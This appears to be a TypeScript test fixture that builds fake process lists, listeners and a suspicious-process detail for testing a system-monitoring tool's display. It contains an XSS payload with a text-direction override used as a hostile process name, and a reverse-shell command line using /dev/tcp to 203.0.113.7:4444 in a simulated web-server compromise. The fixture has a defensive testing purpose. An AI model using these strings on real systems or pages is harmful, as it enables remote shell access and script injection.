/** A computer with many programs on it, for tests of what is shown of them. */
import type { CallOutput } from '../../contract/api.ts';
import {
  type ListenerRow,
  MAX_PROCESSES_PER_ITEM,
  type ProcessDetail,
  type ProcessRow,
} from '../../contract/api-processes.ts';
import type { Script } from './scripted-console.ts';

/** Breaks out of markup, turns the direction of text, and is long. */
export const HOSTILE_NAME = `<img src=x onerror="window.pwned=1">\u202Egpj.exe${'A'.repeat(200)}`;

const BOOT_MS = Date.UTC(2026, 10, 20, 8);
const NAMES = ['nginx', 'postgres', 'python3', 'node', 'bash', 'firefox', 'cupsd', 'containerd-shim'] as const;

/** The process of this number; what it uses changes with the turn. */
export function numbered(pid: number, turn = 0): ProcessRow {
  const isKernelThread = pid >= 2 && pid <= 20;
  const name = pid === 1 ? 'systemd' : isKernelThread ? `kworker/${pid}:0` : NAMES[pid % NAMES.length];
  return {
    pid,
    startedMs: BOOT_MS + pid * 700,
    parentPid: pid === 1 || pid === 2 ? 0 : isKernelThread ? 2 : pid < 60 ? 1 : Math.floor(pid / 4) + 20,
    name,
    image: isKernelThread ? '' : `/usr/bin/${name}`,
    commandLine: isKernelThread ? '' : `/usr/bin/${name} --worker ${pid} --config /etc/${name}/${name}.conf`,
    user: ['root', 'ada', 'www-data'][pid % 3],
    uid: [0, 1000, 33][pid % 3],
    package: pid % 4 === 0 ? '' : name,
    unit: pid % 2 === 0 ? `${name}.service` : 'session-3.scope',
    container: pid % 8 === 7 ? 'web-frontend' : '',
    isKernelThread,
    connections: pid % 11 === 0 ? (pid % 5) + 1 : 0,
    listeners: pid % 17 === 0 ? 1 : 0,
    cpu: ((pid * 37 + turn * 13) % 100) / (pid % 9 === 0 ? 100 : 2_000),
    memoryBytes: 1_000_000 + ((pid * 7_919) % 400) * 1_000_000,
    risk: pid === 100 ? 'critical' : pid === 101 ? 'high' : pid === 245 ? 'medium' : null,
  };
}

type Item = CallOutput<'processes.watch'>;

/** So many processes, in as many items as the engine would take. */
export function processItems(total: number, limits = ''): Item[] {
  const rows = Array.from({ length: total }, (_, index) => numbered(index + 1));
  const items: Item[] = [];
  for (let from = 0; from === 0 || from < total; from += MAX_PROCESSES_PER_ITEM) {
    items.push({ isFirst: from === 0, changed: rows.slice(from, from + MAX_PROCESSES_PER_ITEM), ended: [], limits });
  }
  return items;
}

/** What changed in this turn of a third of them. */
export function changedItem(total: number, turn: number): Item {
  const changed = Array.from({ length: total }, (_, index) => index + 1)
    .filter((pid) => pid % 3 === turn % 3)
    .slice(0, MAX_PROCESSES_PER_ITEM)
    .map((pid) => numbered(pid, turn));
  return { isFirst: false, changed, ended: [], limits: '' };
}

export function listenerRows(): readonly ListenerRow[] {
  return [22, 80, 443, 5_432, 6_379, 8_080].map((port, index) => ({
    protocol: 'tcp',
    address: index < 3 ? (index === 1 ? '::' : '0.0.0.0') : '127.0.0.1',
    port,
    isOpenToOthers: index < 3,
    sinceMs: BOOT_MS + index * 60_000,
    process: index === 4 ? null : numbered(100 + index),
  }));
}

/** A shell that nobody should have started. @param change what is other than that */
export function processDetail(change: Partial<ProcessDetail> = {}): ProcessDetail {
  const process: ProcessRow = {
    ...numbered(100),
    name: 'bash',
    image: '/usr/bin/bash',
    commandLine: 'bash -i',
    connections: 1,
    user: 'www-data',
    uid: 33,
  };
  const startedMs = process.startedMs;
  return {
    process,
    commandLine: `bash -c "${'echo hello; '.repeat(12)}exec 3<>/dev/tcp/203.0.113.7/4444"`,
    workingDirectory: '/var/www/html',
    terminal: '',
    session: 3,
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    endedMs: null,
    exitCode: null,
    lineage: [
      { ...numbered(40), pid: 45, name: 'php-fpm' },
      { ...numbered(40), name: 'nginx', memoryBytes: null },
      numbered(1),
    ],
    children: Array.from({ length: 11 }, (_, index) => numbered(300 + index)),
    childCount: 14,
    sockets: [
      {
        kind: 'connection',
        protocol: 'tcp',
        localAddress: '10.0.0.5',
        localPort: 40_122,
        remoteAddress: '203.0.113.7',
        remotePort: 4_444,
        direction: 'outbound',
        sinceMs: startedMs + 900,
      },
      {
        kind: 'listener',
        protocol: 'tcp',
        localAddress: '0.0.0.0',
        localPort: 9_001,
        remoteAddress: '',
        remotePort: 0,
        direction: 'inbound',
        sinceMs: startedMs + 2_000,
      },
    ],
    socketCount: 2,
    files: [
      { timeMs: startedMs + 9_000, path: '/tmp/.x/payload.sh', action: 'renamed', previousPath: '/tmp/.x/a.tmp' },
      { timeMs: startedMs + 8_000, path: '/tmp/.x/a.tmp', action: 'written', previousPath: '' },
      { timeMs: startedMs + 7_000, path: '/tmp/.x', action: 'created', previousPath: '' },
    ],
    fileCount: 3,
    alerts: [
      { id: 'a-7', title: 'A shell was led to 203.0.113.7', severity: 'critical', lastSeenMs: startedMs + 10_000 },
    ],
    unknown: ['Files opened for reading: not watched, as that would slow programs down.'],
    ...change,
  };
}

export function processScript(total: number): Script {
  return {
    'processes.watch': () => processItems(total),
    'processes.show': ({ pid }) => processDetail({ process: { ...processDetail().process, pid } }),
    'listeners.list': () => ({ listeners: listenerRows(), limits: '' }),
  };
}
